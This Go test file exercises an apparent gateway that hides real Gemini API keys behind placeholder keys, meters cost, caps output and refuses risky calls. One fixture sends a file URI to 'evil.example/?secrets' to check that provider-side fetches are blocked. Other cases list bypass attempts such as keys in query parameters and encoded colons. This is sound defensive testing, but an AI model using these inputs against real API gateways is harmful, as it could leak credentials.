package model

import (
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/agent-loop/ralph/internal/gate/budget"
	"github.com/agent-loop/ralph/internal/gate/meter"
	"github.com/agent-loop/ralph/internal/money"
	"github.com/agent-loop/ralph/internal/secret"
	"github.com/agent-loop/ralph/internal/token"
)

const (
	geminiPath = "/google/v1beta/models/gemini-2.5-pro"
	geminiCall = `{"contents":[{"role":"user","parts":[{"text":"hello"}]}],"generationConfig":{"maxOutputTokens":100}}`
	geminiEnd  = `{"candidates":[{"content":{"role":"model","parts":[{"text":"hi"}]},"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":1500,"cachedContentTokenCount":500,"candidatesTokenCount":20,"thoughtsTokenCount":30,"totalTokenCount":1550},"modelVersion":"gemini-2.5-pro"}`
	geminiByID = `{"contents":[{"parts":[{"fileData":{"mimeType":"image/png","fileUri":"https://evil.example/?secrets"}}]}]}`
)

// geminiCost is what geminiEnd costs: $1.25, $0.125 from the cache and $10.
const geminiCost = (1000*1250 + 500*125 + 50*10_000) * money.Dollar / 1_000_000_000

// asGoogle shows the phantom the way Google's clients do.
func (r *rig) asGoogle(more ...string) []string {
	return append([]string{"X-Api-Key", "", "X-Goog-Api-Key", r.phantom.Reveal()}, more...)
}

// TestGoogleCalls pass with the real key, and are paid for to the cent, whole and
// as a stream.
func TestGoogleCalls(t *testing.T) {
	for _, tt := range []struct{ name, method, kind, answer string }{
		{"whole", ":generateContent", "application/json", geminiEnd},
		{"a stream", ":streamGenerateContent?alt=sse", "text/event-stream", "data: " + geminiEnd + "\r\n\r\n"},
		{"a list", ":streamGenerateContent", "application/json", "[" + geminiEnd + "]"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := make(chan seen, 1)
			r := start(t, http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
				body, _ := io.ReadAll(req.Body)
				got <- seen{req.Header.Clone(), string(body), req.URL.RequestURI(), req.ProtoMajor}
				says(200, tt.answer, "Content-Type", tt.kind)(w, req)
			}), budget.Caps{})
			resp, body := r.ask(t, "POST", geminiPath+tt.method, geminiCall, r.asGoogle("X-Goog-User-Project", "other", "X-Goog-Api-Client", "genai")...)
			up, e := <-got, r.event(t)
			if resp.StatusCode != 200 || body != tt.answer || up.body != geminiCall || up.path != "/v1beta/models/gemini-2.5-pro"+tt.method {
				t.Errorf("answer %s %q to %+v", resp.Status, body, up)
			}
			if up.header.Get("X-Goog-Api-Key") != realKey || up.header.Get("X-Goog-User-Project") != "" || up.header.Get("X-Goog-Api-Client") != "genai" {
				t.Errorf("the upstream got %v", up.header)
			}
			c := e.Charge
			if c == nil || c.Model != "gemini-2.5-pro" || c.Cost != geminiCost || c.Uncertain || c.Reserved < c.Cost || c.Input != 1000 || c.CacheRead != 500 || c.Output != 50 {
				t.Errorf("charge %+v, want a cost of %v", c, geminiCost)
			}
		})
	}
}

// TestGoogleCallsAreLimited, so that what is reserved holds.
func TestGoogleCallsAreLimited(t *testing.T) {
	for body, want := range map[string]string{
		`{"contents":[]}`:                                                `{"contents":[],"generationConfig":{"maxOutputTokens":65536}}`,
		`{"generationConfig":null,"contents":[]}`:                        `{"contents":[],"generationConfig":{"maxOutputTokens":65536}}`,
		`{"contents":[],"generationConfig":{"topP":0.10}}`:               `{"contents":[],"generationConfig":{"maxOutputTokens":65536,"topP":0.10}}`,
		`{"contents":[],"generationConfig":{"maxOutputTokens":0}}`:       `{"contents":[],"generationConfig":{"maxOutputTokens":65536}}`,
		`{"contents": [], "generationConfig": {"maxOutputTokens": 100}}`: `{"contents": [], "generationConfig": {"maxOutputTokens": 100}}`,
	} {
		got := make(chan string, 1)
		r := start(t, http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
			body, _ := io.ReadAll(req.Body)
			got <- string(body)
			says(200, geminiEnd)(w, req)
		}), budget.Caps{})
		if resp, text := r.ask(t, "POST", geminiPath+":generateContent", body, r.asGoogle()...); resp.StatusCode != 200 {
			t.Fatalf("%s: %s %s", body, resp.Status, text)
		}
		if sent := <-got; sent != want {
			t.Errorf("%s: sent %s, want %s", body, sent, want)
		}
	}
	for _, body := range []string{`null`, `[]`, `{"generationConfig":7}`, `{"contents":[],"contents":[]}`, ``} {
		if got, err := limitOutput([]byte(body), 1); err == nil && string(got) != body {
			t.Errorf("%s became %s", body, got)
		}
	}
}

// TestGoogleRefused lists what does not go upstream, in Google's shape.
func TestGoogleRefused(t *testing.T) {
	reached := false
	r := start(t, http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached = true }), budget.Caps{USD: money.Dollar / 100})
	phantom := r.phantom.Reveal()
	other := NewPhantom(Google, token.GeminiKey).Reveal()
	for _, tt := range []struct {
		name, method, path, body string
		headers                  []string
		status                   int
		code, word               string
	}{
		{"no phantom", "POST", geminiPath + ":generateContent", geminiCall, []string{"X-Api-Key", ""}, 403, CodeWrongPhantom, "PERMISSION_DENIED"},
		{"another run's phantom", "POST", geminiPath + ":generateContent", geminiCall, []string{"X-Goog-Api-Key", other}, 403, CodeWrongPhantom, "PERMISSION_DENIED"},
		{"the phantom as a parameter", "POST", geminiPath + ":generateContent?key=" + phantom, geminiCall, nil, 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"a key as a parameter too", "POST", geminiPath + ":generateContent?key=AIzaOther", geminiCall, r.asGoogle(), 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"another shape", "POST", geminiPath + ":generateContent?alt=proto", geminiCall, r.asGoogle(), 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"a choice of fields", "POST", geminiPath + ":generateContent?fields=candidates", geminiCall, r.asGoogle(), 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"a parameter's other name", "POST", geminiPath + ":streamGenerateContent?$alt=sse", geminiCall, r.asGoogle(), 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"another method of the model", "POST", geminiPath + ":batchGenerateContent", geminiCall, r.asGoogle(), 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"an encoded colon", "POST", geminiPath + "%3AgenerateContent", geminiCall, r.asGoogle(), 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"files", "GET", "/google/v1beta/files", "", r.asGoogle(), 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"a tuned model", "POST", "/google/v1beta/tunedModels/x:generateContent", geminiCall, r.asGoogle(), 403, CodeWrongPath, "PERMISSION_DENIED"},
		{"get of a call", "GET", geminiPath + ":generateContent", "", r.asGoogle(), 403, CodeWrongMethod, "PERMISSION_DENIED"},
		{"an unknown model", "POST", "/google/v1beta/models/gemini-9:generateContent", geminiCall, r.asGoogle(), 403, CodeUnknownModel, "PERMISSION_DENIED"},
		{"search at the provider", "POST", geminiPath + ":generateContent", `{"contents":[],"tools":[{"googleSearch":{}}]}`, r.asGoogle(), 403, CodeUnbounded, "PERMISSION_DENIED"},
		{"a file by its URI", "POST", geminiPath + ":generateContent", geminiByID, r.asGoogle(), 403, CodeProviderFetch, "PERMISSION_DENIED"},
		{"a file by its URI, to be counted", "POST", geminiPath + ":countTokens", geminiByID, r.asGoogle(), 403, CodeProviderFetch, "PERMISSION_DENIED"},
		{"the same in the other spelling", "POST", geminiPath + ":countTokens", strings.ReplaceAll(geminiByID, "fileData", "file_data"), r.asGoogle(), 403, CodeUnbounded, "PERMISSION_DENIED"},
		{"the same with a name twice", "POST", geminiPath + ":countTokens", `{"contents":[],` + geminiByID[1:], r.asGoogle(), 400, CodeBadRequest, "INVALID_ARGUMENT"},
		{"another model in the body", "POST", geminiPath + ":generateContent", `{"model":"models/gemini-3.1-pro-preview","contents":[]}`, r.asGoogle(), 400, CodeBadRequest, "INVALID_ARGUMENT"},
		{"more than the budget", "POST", geminiPath + ":generateContent", `{"contents":[]}`, r.asGoogle(), 403, CodeBudgetSpent, "PERMISSION_DENIED"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := r.ask(t, tt.method, tt.path, tt.body, tt.headers...)
			e := r.event(t)
			if resp.StatusCode != tt.status || resp.Header.Get(codeHeader) != tt.code || e.Code != tt.code || e.Allowed {
				t.Errorf("answer %s %q, event %+v, want %d %s", resp.Status, body, e, tt.status, tt.code)
			}
			var shown struct {
				Error struct {
					Code            int
					Message, Status string
					Details         []struct{ Reason string }
				}
			}
			err := json.Unmarshal([]byte(body), &shown)
			if s := shown.Error; err != nil || s.Code != tt.status || s.Status != tt.word || !strings.HasPrefix(s.Message, "ralph: ") || len(s.Details) != 1 || s.Details[0].Reason != tt.code {
				t.Errorf("body %q: %v", body, err)
			}
		})
	}
	if reached {
		t.Error("a refused request reached the upstream")
	}
}

// TestGoogleFree: counts and lists cost nothing and need no budget.
func TestGoogleFree(t *testing.T) {
	r := start(t, says(200, `{"totalTokens":5}`), budget.Caps{USD: 1})
	for _, ask := range [][2]string{
		{"POST", geminiPath + ":countTokens"}, {"GET", "/google/v1beta/models?pageSize=5"}, {"GET", geminiPath},
	} {
		resp, body := r.ask(t, ask[0], ask[1], `{"contents":[]}`, r.asGoogle()...)
		if e := r.event(t); resp.StatusCode != 200 || !e.Allowed || e.Charge != nil || body != `{"totalTokens":5}` {
			t.Errorf("%v: %s %q, event %+v", ask, resp.Status, body, e)
		}
	}
}

// TestGoogleEcho: a response that holds the key does not pass.
func TestGoogleEcho(t *testing.T) {
	r := start(t, says(200, `{"x":"`+realKey+`"}`), budget.Caps{})
	resp, body := r.ask(t, "POST", geminiPath+":generateContent", geminiCall, r.asGoogle()...)
	if resp.StatusCode != 502 || strings.Contains(body, realKey) || !strings.Contains(body, `"UNAVAILABLE"`) {
		t.Errorf("answer %s %q", resp.Status, body)
	}
}

// TestPhantomsLookLikeKeys, for clients look at the form, and so does the store.
func TestPhantomsLookLikeKeys(t *testing.T) {
	phantom := NewPhantom(Google, token.GeminiKey).Reveal()
	record, err := token.Parse("gemini", "", phantom, time.Now())
	if err != nil || record.Kind != token.GeminiKey || len(phantom) != 39 {
		t.Errorf("%d bytes, %v, %v", len(phantom), record.Kind, err)
	}
}

// TestAnotherProvidersAddress would be sent the wrong credential.
func TestAnotherProvidersAddress(t *testing.T) {
	for p, address := range map[Provider]string{
		Google: "https://api.anthropic.com", Anthropic: "https://GenerativeLanguage.googleapis.com.:443/x", OpenAI: "https://generativelanguage.googleapis.com",
	} {
		at, err := url.Parse(address)
		if err != nil {
			t.Fatal(err)
		}
		config := Config{Ledger: &budget.Ledger{}, Prices: &meter.Prices{}, Upstreams: []Upstream{{Provider: p, URL: at, Phantom: secret.New("phantom-phantom")}}}
		if _, err := New(config); err == nil || !strings.Contains(err.Error(), "the credential") {
			t.Errorf("%s at %s: %v", p, address, err)
		}
	}
}

// FuzzLimitOutput: whatever a body is, it comes back as it was, or as a call that
// the meter reads with a limit, or not at all.
func FuzzLimitOutput(f *testing.F) {
	for _, body := range []string{geminiCall, `{"contents":[]}`, `{"generationConfig":{"topP":1}}`, `{"generationConfig":null}`, `null`, `{"generationConfig":{"maxOutputTokens":0,"max_output_tokens":9}}`} {
		f.Add([]byte(body))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		limited, err := limitOutput(body, 77)
		if err != nil || string(limited) == string(body) {
			return
		}
		call, err := meter.ReadCallFor("m", meter.Google, http.Header{"Content-Type": {"application/json"}}, limited)
		if err == nil && (!call.SaysOutput || call.Output != 77) {
			t.Errorf("%q became %q, which is read as %+v", body, limited, call)
		}
	})
}
